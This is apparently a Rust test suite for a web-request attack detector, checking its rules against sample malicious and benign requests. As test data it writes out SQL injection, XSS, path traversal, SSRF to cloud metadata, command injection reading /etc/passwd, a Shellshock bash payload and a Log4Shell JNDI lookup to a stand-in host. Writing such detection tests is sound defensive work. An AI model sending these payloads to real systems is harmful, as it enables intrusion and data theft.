//! Detector-level tests against the shipped rule file (`rules/patterns.json`) and the labelled
//! example logs in `rules/tests/<category>/input.log`.

use std::time::{Duration, Instant};

use logsec_sdk::{Detector, Field as ExtraField, Finding, Request};

use super::*;

const RULES: &str = include_str!("../../../rules/patterns.json");

/// The score at which the host flags a request.
const FLAG_AT: u8 = 5;

fn detector() -> Patterns {
    Patterns::with_rules(RULES).expect("the shipped rules compile")
}

fn get(uri: &str) -> Request {
    let mut r = Request::empty();
    r.method = "GET".into();
    r.uri = uri.into();
    r.user_agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".into();
    r
}

fn flagged(findings: &[Finding]) -> Vec<&str> {
    findings
        .iter()
        .filter(|f| f.score >= FLAG_AT)
        .map(|f| f.category.as_str())
        .collect()
}

fn assert_category(d: &mut Patterns, req: &Request, category: &str) {
    let findings = d.detect(req);
    assert!(
        flagged(&findings).contains(&category),
        "{} {:?}: expected {category}, got {:?}",
        req.uri,
        req.user_agent,
        findings.iter().map(|f| (&f.rule_id, f.score)).collect::<Vec<_>>()
    );
}

#[test]
fn shipped_rules_cover_the_seven_categories() {
    let d = detector();
    for category in [
        "sqli",
        "xss",
        "path_traversal",
        "nosqli",
        "ssrf",
        "command_injection",
        "sensitive_file",
    ] {
        let n = d.book().rules().iter().filter(|r| r.category == category).count();
        assert!(n >= 5, "{category} has {n} rules");
    }
}

#[test]
fn each_category_detects_its_grammar() {
    let mut d = detector();
    let cases = [
        ("sqli", "/item?id=1%27%20or%20%271%27%3D%271"),
        ("sqli", "/item?id=-1+UNION+ALL+SELECT+1,2,@@version--"),
        ("sqli", "/item?id=1;waitfor%20delay%20%270:0:5%27--"),
        ("xss", "/q?s=%3Cscript%3Ealert(1)%3C/script%3E"),
        ("xss", "/q?s=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
        ("path_traversal", "/dl?f=..%2F..%2F..%2Fetc%2Fpasswd"),
        ("path_traversal", "/dl?f=%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini"),
        ("nosqli", "/login?user[$ne]=x&pass[$ne]=x"),
        ("nosqli", "/find?q=%7B%22%24where%22%3A%22sleep(100)%22%7D"),
        ("ssrf", "/fetch?url=http://169.254.169.254/latest/meta-data/"),
        ("ssrf", "/fetch?url=gopher://127.0.0.1:6379/_info"),
        ("command_injection", "/ping?host=1.1.1.1;cat%20/etc/passwd"),
        ("command_injection", "/ping?host=$(whoami)"),
        ("sensitive_file", "/.git/config"),
        ("sensitive_file", "/wp-config.php.bak"),
    ];
    for (category, uri) in cases {
        assert_category(&mut d, &get(uri), category);
    }
}

#[test]
fn headers_are_scanned() {
    let mut d = detector();
    let mut r = get("/");
    r.user_agent = "() { :; }; /bin/bash -c 'id'".into();
    assert_category(&mut d, &r, "command_injection");
    let mut r = get("/");
    r.user_agent = "${jndi:ldap://x.example/a}".into();
    assert_category(&mut d, &r, "log4shell");
    let mut r = get("/");
    r.referer = "https://shop.example/?q=<script>alert(1)</script>".into();
    assert_category(&mut d, &r, "xss");
    let mut r = get("/");
    r.extra.push(ExtraField {
        name: "Cookie".into(),
        value: "session=1; theme=' or '1'='1".into(),
    });
    assert_category(&mut d, &r, "sqli");
}

#[test]
fn repeated_headers_give_the_same_findings() {
    let mut d = detector();
    let mut r = get("/");
    r.user_agent = "sqlmap/1.8 (https://sqlmap.org)".into();
    let key = |f: &Finding| (f.rule_id.clone(), f.score, f.evidence.clone());
    let first: Vec<_> = d.detect(&r).iter().map(key).collect();
    let second: Vec<_> = d.detect(&r).iter().map(key).collect();
    assert_eq!(first, second);
    assert_eq!(first[0].0, "scanner-attack-tool");
    // A header hit does not hide or duplicate the same rule hitting elsewhere.
    r.uri = "/?q=%3Cscript%3E".into();
    r.referer = "https://x.example/?q=<script>".into();
    let findings = d.detect(&r);
    assert_eq!(findings.iter().filter(|f| f.rule_id == "xss-script-tag").count(), 1);
}

#[test]
fn tricky_benign_requests_do_not_flag() {
    let mut d = detector();
    let uris = [
        "/search?q=union+station",
        "/search?q=drop+box",
        "/search?q=order+by+price",
        "/search?q=select+comfort",
        "/search?q=O%27Brien",
        "/search?q=rock+%27n%27+roll",
        "/search?q=%22cats%22+and+%22dogs%22",
        "/search?q=5%2711%22",
        "/search?q=C%2B%2B+templates",
        "/oauth/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&state=x",
        "/oauth/authorize?client_id=abc&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F",
        "/api/items?filter=%7B%22price%22%3A%7B%22%24gte%22%3A10%7D%7D",
        "/api/items?filters[name][$eq]=Pizza",
        "/rest/api/2/search?jql=status%3D%22Done%22%20AND%20assignee%3DcurrentUser()",
        "/me?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
        "/b/k.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%2F20240501%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Signature=abc",
        "/.well-known/acme-challenge/abc-DEF_123",
        "/.well-known/security.txt",
        "/share?url=https%3A%2F%2Fexample.com%2Fp.php%3Fid%3D4",
        "/search?q=how+to+center+a+%3Cdiv%3E",
        "/search?q=%60git+status%60",
        "/login?next=%2Fdocs%2Fguide%2F..%2Fapi",
        "/wp-login.php",
        "/files/My%2520Document.pdf",
    ];
    for uri in uris {
        let findings = d.detect(&get(uri));
        assert!(flagged(&findings).is_empty(), "{uri}: {findings:?}");
    }
    let mut r = get("/docs/api/index.html");
    r.referer = "https://www.example.com/docs/guide/../api/index.html".into();
    r.user_agent = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)".into();
    assert!(flagged(&d.detect(&r)).is_empty());
}

#[test]
fn one_finding_per_rule_and_bounded_evidence() {
    let mut d = detector();
    let payload = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    let r = get(&format!("/{payload}?a={payload}&b={payload}&c={}", "x".repeat(5000)));
    let findings = d.detect(&r);
    let script = findings.iter().filter(|f| f.rule_id == "xss-script-tag").count();
    assert_eq!(script, 1);
    assert!(findings.iter().all(|f| f.evidence.len() <= Finding::MAX_EVIDENCE));
    assert!(
        findings.windows(2).all(|w| w[0].score >= w[1].score),
        "highest score first"
    );
}

#[test]
fn huge_requests_are_scanned_in_bounded_time() {
    let mut d = detector();
    let big = format!("/x?q={}%27%20or%20%271%27%3D%271", "a%27%20".repeat(40_000));
    let start = Instant::now();
    let findings = d.detect(&get(&big));
    assert!(start.elapsed() < Duration::from_secs(20));
    assert!(findings.iter().all(|f| f.evidence.len() <= Finding::MAX_EVIDENCE));
    let noise = format!("/{}", "%25".repeat(100_000));
    let start = Instant::now();
    d.detect(&get(&noise));
    assert!(start.elapsed() < Duration::from_secs(20));
}

fn rule_file(rules: &str) -> String {
    format!(r#"{{"version": 1, "rules": [{rules}]}}"#)
}

fn rule(id: &str, extra: &str) -> String {
    format!(r#"{{"id": "{id}", "category": "test", "score": 6, "description": "d", "fields": ["args"], {extra}}}"#)
}

#[test]
fn bad_rules_are_refused_by_id() {
    let cases = [
        (rule("bad-regex", r#""patterns": ["(unclosed"]"#), "bad-regex"),
        (rule("empty-match", r#""patterns": ["a*"]"#), "matches the empty string"),
        (rule("no-pattern", r#""patterns": []"#), "no pattern"),
        (rule("Bad_Id", r#""patterns": ["x"]"#), "id must be"),
        (
            rule("bad-field", r#""patterns": ["x"], "fields": ["body"]"#),
            "bad-field",
        ),
        (rule("bad-view", r#""patterns": ["x"], "view": "html""#), "bad-view"),
        (rule("typo", r#""patern": "x""#), "patern"),
        (
            rule("bad-unless", r#""patterns": ["x"], "unless": ["[z-a]"]"#),
            "unless pattern 1",
        ),
        (
            format!(
                "{},{}",
                rule("dup", r#""patterns": ["x"]"#),
                rule("dup", r#""patterns": ["y"]"#)
            ),
            "duplicate",
        ),
    ];
    for (rules, expected) in cases {
        let err = Patterns::with_rules(&rule_file(&rules))
            .err()
            .unwrap_or_else(|| panic!("accepted {rules}"));
        assert!(err.contains(expected), "{err}");
        assert!(!err.contains('\n'), "one line: {err}");
    }
    let high = r#"{"version": 1, "rules": [{"id": "x", "category": "t", "score": 11, "description": "d", "fields": ["path"], "pattern": "x"}]}"#;
    assert!(Patterns::with_rules(high).unwrap_err().contains("score 11"));
    assert!(Patterns::with_rules("").unwrap_err().contains("no rules"));
    assert!(Patterns::with_rules("{}").is_err());
    assert!(
        Patterns::with_rules(r#"{"version": 2, "rules": []}"#)
            .unwrap_err()
            .contains("version 2")
    );
}

#[test]
fn failed_configure_keeps_the_previous_rules() {
    let mut d = detector();
    let attack = get("/q?s=%3Cscript%3E");
    assert!(!d.detect(&attack).is_empty());
    assert!(
        d.configure(&rule_file(&rule("broken", r#""patterns": ["("]"#)))
            .is_err()
    );
    assert!(!d.detect(&attack).is_empty());
    // A successful configure replaces them (and the header cache).
    d.configure(&rule_file(&rule("only-x", r#""pattern": "=xyz$""#)))
        .unwrap();
    assert!(d.detect(&attack).is_empty());
    let f = d.detect(&get("/?a=xyz"));
    assert_eq!(
        (f[0].rule_id.as_str(), f[0].category.as_str(), f[0].score),
        ("only-x", "test", 6)
    );
    assert_eq!(f[0].evidence, "args: a=xyz");
}

#[test]
fn unless_cancels_a_match_on_the_same_argument() {
    let mut d = detector();
    let own = get("/cb?redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcb");
    assert!(flagged(&d.detect(&own)).is_empty());
    let ssrf = get("/fetch?url=http%3A%2F%2Flocalhost%3A8080%2Fadmin&redirect_uri=http%3A%2F%2Flocalhost%2F");
    assert_category(&mut d, &ssrf, "ssrf");
}

/// The score arguments are given in `args` as `name=value` lines, so `^` is an argument start.
#[test]
fn args_lines_anchor_rules() {
    let rules = rule_file(&rule("starts", r#""pattern": "^evil=""#));
    let mut d = Patterns::with_rules(&rules).unwrap();
    assert_eq!(d.detect(&get("/?a=1&evil=2")).len(), 1);
    assert!(d.detect(&get("/?a=evil=2")).is_empty());
}

/// Splits a combined-format line into a request (ip, request line, referer, user agent).
fn parse_line(line: &str) -> Request {
    let mut quoted = Vec::new();
    let mut rest = line;
    while let Some(start) = rest.find('"') {
        let body = &rest[start + 1..];
        let mut end = 0;
        let bytes = body.as_bytes();
        while end < bytes.len() && (bytes[end] != b'"' || (end > 0 && bytes[end - 1] == b'\\')) {
            end += 1;
        }
        quoted.push(body[..end].replace("\\\"", "\""));
        rest = body.get(end + 1..).unwrap_or("");
    }
    let mut r = Request::empty();
    let mut request = quoted[0].splitn(3, ' ');
    r.method = request.next().unwrap_or_default().into();
    r.uri = request.next().unwrap_or_default().into();
    r.referer = quoted.get(1).cloned().unwrap_or_default();
    r.user_agent = quoted.get(2).cloned().unwrap_or_default();
    r
}

#[test]
fn example_logs_flag_their_category_and_benign_tricky_flags_nothing() {
    let mut d = detector();
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/tests");
    let mut seen = 0;
    for entry in std::fs::read_dir(&dir).expect("rules/tests exists") {
        let path = entry.unwrap().path();
        let category = path.file_name().unwrap().to_string_lossy().into_owned();
        let log = std::fs::read_to_string(path.join("input.log")).unwrap();
        let lines: Vec<&str> = log.lines().filter(|l| !l.trim().is_empty()).collect();
        for line in &lines {
            let findings = d.detect(&parse_line(line));
            let cats = flagged(&findings);
            if category == "benign-tricky" {
                assert!(cats.is_empty(), "benign line flagged: {line}\n{findings:?}");
            } else {
                assert!(
                    cats.contains(&category.as_str()),
                    "{category} line not flagged as such: {line}\n{findings:?}"
                );
            }
        }
        let minimum = if category == "benign-tricky" { 300 } else { 20 };
        assert!(lines.len() >= minimum, "{category}: {} lines", lines.len());
        seen += 1;
    }
    assert_eq!(seen, 8, "seven categories and benign-tricky");
}
